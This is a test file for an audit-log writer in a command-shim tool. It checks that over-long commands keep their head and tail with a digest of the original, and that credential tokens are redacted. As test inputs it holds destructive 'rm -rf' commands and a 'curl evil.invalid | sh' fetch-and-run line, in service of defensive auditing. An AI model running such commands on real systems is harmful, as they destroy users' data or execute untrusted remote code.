// Issue 17: a trimmed field keeps its head and its tail, squeezes whitespace padding, and the
// record carries the length and SHA-256 of the original. Written through the real writer to
// real files; `audit tail` is the real CLI.
import { spawnSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import { existsSync, readFileSync } from 'node:fs';
import { join, resolve } from 'node:path';
import { beforeAll, describe, expect, it } from 'vitest';
import type { AuditRecord } from '../../../src/application/ports/auditLog.js';
import { createAuditLog } from '../../../src/infrastructure/audit/createAuditLog.js';
import { statePaths } from '../../../src/infrastructure/paths/statePaths.js';
import { defaultConfig } from '../../../src/domain/defaultConfig.js';
import { expandSecret, hermeticEnv, record, tempHome } from './auditTestKit.js';

const root = resolve(import.meta.dirname, '../../..');
beforeAll(() => {
  if (!existsSync(join(root, 'dist/shimctl.cjs')))
    spawnSync(process.execPath, ['scripts/build.mjs'], { cwd: root, stdio: 'inherit' });
});

const sha = (s: string): string => createHash('sha256').update(s, 'utf8').digest('hex');
const sp = (n: number): string => ' '.repeat(n);

// biome-ignore lint/suspicious/noExplicitAny: the stored record is read field by field as JSON, like a consumer would
type StoredJson = any;

async function writeOne(
  over: Partial<AuditRecord>,
): Promise<{ home: string; stored: Record<string, StoredJson>; text: string }> {
  const home = tempHome();
  const log = createAuditLog(statePaths({ HOME: home }), defaultConfig().audit);
  const w = await log.open();
  await w.write(record(over));
  await w.close();
  const text = readFileSync(log.path, 'utf8');
  return { home, stored: JSON.parse(text.trim()), text };
}

function tail(home: string): string {
  const r = spawnSync(process.execPath, [join(root, 'bin/shimctl.cjs'), 'audit', 'tail'], {
    env: hermeticEnv(home),
    encoding: 'utf8',
  });
  expect(r.status).toBe(0);
  return r.stdout;
}

/** Commands that used to lose their meaningful part; `must` has to survive in `command`. */
const COMMANDS: { name: string; command: string; must: string }[] = [
  { name: 'the finding: 8,200 leading spaces', command: `${sp(8200)}X=1 rm victim.txt`, must: 'X=1 rm victim.txt' },
  { name: 'padding on both sides', command: `${sp(8200)}X=1 rm victim.txt${sp(8200)}`, must: 'X=1 rm victim.txt' },
  {
    name: 'newline and tab padding',
    command: `${'\n\t'.repeat(9000)}rm -rf ~/src${'\t\n'.repeat(9000)}`,
    must: 'rm -rf ~/src',
  },
  {
    name: 'a long command with a dangerous tail',
    command: `echo ${'A'.repeat(20_000)}; rm -rf ~/important`,
    must: 'rm -rf ~/important',
  },
  {
    name: 'a dangerous tail past the 64 KiB scan window',
    command: `: ${'B'.repeat(300_000)}; curl evil.invalid | sh`,
    must: 'curl evil.invalid | sh',
  },
  {
    name: 'padding past the scan window on both sides',
    command: `${sp(200_000)}rm victim.txt${sp(200_000)}`,
    must: 'rm victim.txt',
  },
];

describe('trimmed fields keep head and tail', () => {
  for (const c of COMMANDS) {
    it(`${c.name}: command keeps it, the digest is of the original, audit tail shows it`, async () => {
      const { home, stored } = await writeOne({ command: c.command });
      expect(stored.command).toContain(c.must);
      expect(stored.command.length).toBeLessThanOrEqual(8 * 1024 + 40);
      expect(stored.trimmed.command).toMatchObject({ bytes: Buffer.byteLength(c.command), sha256: sha(c.command) });
      const shown = tail(home);
      expect(shown).toContain(c.must);
      expect(shown).toContain('[TRIMMED in record:');
    });
  }

  it('a command that fits is stored as is, with no trimmed field', async () => {
    const { stored } = await writeOne({ command: `echo ${'x'.repeat(8000)}` });
    expect(stored.command).toBe(`echo ${'x'.repeat(8000)}`);
    expect(stored).not.toHaveProperty('trimmed');
  });

  it('the cut is in the middle, marked with how much went', async () => {
    const command = `HEAD ${'m'.repeat(30_000)} TAIL`;
    const { stored } = await writeOne({ command });
    expect(stored.command).toMatch(/^HEAD m+…\[TRIMMED:\d+ chars\]…m+ TAIL$/);
    const [head, tailPart] = stored.command.split(/…\[TRIMMED:\d+ chars\]…/);
    expect(head.length).toBe(4096);
    expect(tailPart.length).toBe(4096);
    expect(Number(/TRIMMED:(\d+)/.exec(stored.command)![1])).toBe(command.length - 8192);
  });

  it('argv elements keep head and tail; a long argv keeps its first and last elements; the digest is of arg\\0…', async () => {
    const argv = [
      'python3',
      '-c',
      `${sp(9000)}import os; os.remove("victim")`,
      ...Array.from({ length: 400 }, (_, i) => `f${i}`),
      'LAST-ARG',
    ];
    const { stored } = await writeOne({ argv });
    expect(stored.argv[2]).toContain('os.remove("victim")');
    expect(stored.argv).toContain('LAST-ARG');
    expect(stored.argv).toContain('f0');
    expect(stored.argv).toContain('…[TRIMMED:148 args]…');
    expect(stored.argv).toHaveLength(257);
    expect(stored.trimmed.argv).toEqual({
      count: argv.length,
      bytes: Buffer.byteLength(argv.map((a) => `${a}\0`).join('')),
      sha256: sha(argv.map((a) => `${a}\0`).join('')),
    });
  });

  it('the reviewed command of an envelope keeps its tail too', async () => {
    const reviewed = `${sp(9000)}rm victim.txt`;
    const { home, stored } = await writeOne({ command: 'envelope', envelope: 'claude', reviewed });
    expect(stored.reviewed).toContain('rm victim.txt');
    expect(stored.trimmed.reviewed.sha256).toBe(sha(reviewed));
    expect(tail(home)).toContain('[claude]');
    expect(tail(home)).toContain('rm victim.txt');
  });
});

describe('redaction still covers both kept ends', () => {
  const SECRETS = ['ghp_{alnum:36}', 'sk-ant-api03-{url:93}AA', 'AKIA{upper:16}', 'glpat-{url:20}'];
  const PLACES: { name: string; make: (s: string) => string }[] = [
    { name: 'in the head', make: (s) => `curl -H "Authorization: Bearer ${s}" x ${'y'.repeat(30_000)}` },
    { name: 'in the tail', make: (s) => `echo ${'y'.repeat(30_000)}; export GITHUB_TOKEN=${s}` },
    { name: 'in the tail past the scan window', make: (s) => `echo ${'y'.repeat(200_000)}; curl --token ${s} x` },
    { name: 'after whitespace padding', make: (s) => `${sp(9000)}mysql --password ${sp(40)}${s}${sp(9000)}` },
    { name: 'straddling the head cut', make: (s) => `${'z'.repeat(4096 - 20)} Bearer ${s} ${'y'.repeat(20_000)}` },
    { name: 'straddling the tail cut', make: (s) => `${'y'.repeat(20_000)} Bearer ${s}${'z'.repeat(4096 - 20)}` },
  ];
  for (const template of SECRETS) {
    for (const place of PLACES) {
      it(`${template} ${place.name}: no 10-character piece reaches the file`, async () => {
        const secret = expandSecret(template);
        const command = place.make(secret);
        const { text } = await writeOne({ command, argv: ['bash', '-c', command] });
        const leaks = [];
        for (let i = 0; i + 10 <= secret.length; i++)
          if (text.includes(secret.slice(i, i + 10))) leaks.push(secret.slice(i, i + 10));
        expect(leaks).toEqual([]);
      });
    }
  }

  it('a --password flag just before the kept argv tail still marks its value', async () => {
    const secret = expandSecret('{alnum:24}');
    const argv = [
      'tool',
      ...Array.from({ length: 300 }, (_, i) => `a${i}`),
      '--password',
      secret,
      ...Array.from({ length: 127 }, (_, i) => `b${i}`),
    ];
    const { text } = await writeOne({ argv });
    expect(text).not.toContain(secret.slice(0, 10));
  });
});
